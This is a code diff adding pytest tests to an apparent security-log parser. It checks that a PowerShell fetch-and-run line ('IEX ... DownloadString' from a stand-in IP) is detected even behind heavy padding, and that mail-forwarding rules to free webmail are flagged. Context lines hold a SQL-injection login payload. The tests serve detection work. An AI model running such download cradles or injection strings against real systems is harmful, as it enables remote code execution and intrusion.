@@ -353,6 +353,24 @@ def test_a_secret_that_is_a_word_stays_out_of_what_a_server_says(text):
     assert "swordfish" not in read(text).template and "secret" in read(text).template
 
 
+@pytest.mark.parametrize("padding", ["# the weekly report, as agreed\n", "$x = 1; "])
+def test_a_script_behind_padding_is_read_all_the_same(padding):
+    attack = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
+    for repeats in (0, 30, 300, 2_000):
+        result = read(json.dumps({"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": padding * repeats + attack}))
+        assert "download string" in result.template and attack in " ".join(result.focus), (repeats, result.template[-200:])
+
+
+def test_addresses_of_free_mail_are_told_from_those_of_an_employer():
+    def forwarded(target):
+        return read(json.dumps({"Operation": "New-InboxRule", "Workload": "Exchange", "UserId": "ann@corp.example", "ResultStatus": "True",
+                                "Parameters": [{"Name": "ForwardTo", "Value": target}]})).template
+
+    assert "freemail" in forwarded("eve77@gmail.com") and "freemail" in forwarded("eve@yahoo.co.uk")
+    assert "freemail" not in forwarded("bob@corp.example") and forwarded("bob@corp.example") != forwarded("eve77@gmail.com")
+    assert "freemail" not in forwarded("eve@gmail.com.corp.example")
+
+
 def test_an_attack_in_a_password_field_is_not_redacted_away():
     found = read("POST /login HTTP/1.1\nHost: example.org\n\nlogin=bob&password=' or '1'='1")
     assert "quote or quote" in found.template
